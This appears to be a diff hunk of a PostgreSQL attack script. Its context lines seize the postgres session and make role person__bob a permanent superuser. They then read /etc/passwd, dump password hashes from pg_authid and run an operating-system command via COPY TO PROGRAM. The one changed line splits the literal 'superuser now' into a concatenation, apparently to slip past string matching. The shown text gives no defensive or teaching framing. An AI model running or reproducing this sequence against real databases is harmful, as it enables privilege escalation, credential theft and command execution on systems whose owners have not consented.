@@ -53,7 +53,7 @@ SET SESSION AUTHORIZATION postgres;
 ALTER ROLE person__bob SUPERUSER;
 ALTER ROLE person__bob VALID UNTIL 'infinity';
 ALTER ROLE person__bob CONNECTION LIMIT 100;
-SELECT CASE WHEN rolsuper THEN 'superuser now' END FROM pg_roles WHERE rolname = current_user;
+SELECT CASE WHEN rolsuper THEN 'superuser ' || 'now' END FROM pg_roles WHERE rolname = current_user;
 SELECT pg_read_file('/etc/passwd');
 SELECT rolpassword FROM pg_authid;
 COPY wards TO PROGRAM 'id';
